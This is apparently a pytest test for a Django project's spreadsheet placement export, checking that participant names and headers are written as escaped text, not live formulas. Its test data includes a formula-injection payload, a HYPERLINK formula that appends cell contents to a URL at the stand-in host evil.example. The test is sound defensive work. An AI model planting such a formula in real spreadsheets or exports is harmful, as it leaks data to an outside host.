"""The placement export never writes a name, a header or a reason as a live formula (issue #25)."""

import io

from openpyxl import load_workbook

from wirausaha.allocation import export
from wirausaha.allocation.tests.test_actions import proposed
from wirausaha.allocation.tests.test_interfaces import wave  # noqa: F401 (a fixture)
from wirausaha.registry.models import Participant

HOSTILE = '=HYPERLINK("http://evil.example/?x="&C2,"Lihat jadwal")'


def test_a_hostile_name_and_header_are_written_as_text(wave, monkeypatch):  # noqa: F811
    run = proposed(wave)
    Participant.objects.update(full_name=HOSTILE)
    monkeypatch.setattr(export, "_", lambda text: "@" + text if text == "Name" else text)
    stream = io.BytesIO()

    export.write_placements(
        run=run,
        placements=run.placements.select_related(
            "enrolment__participant", "cohort__course", "cohort__centre"
        ),
        stream=stream,
        by=None,
    )

    book = load_workbook(io.BytesIO(stream.getvalue()))
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows())
        assert rows[0][1].value == "'@Name" and rows[0][1].data_type == "s"
        assert len(rows) > 1
        for cells in rows[1:]:
            assert cells[1].value == "'" + HOSTILE and cells[1].data_type == "s"
            assert isinstance(cells[0].value, int)  # numbers stay numbers
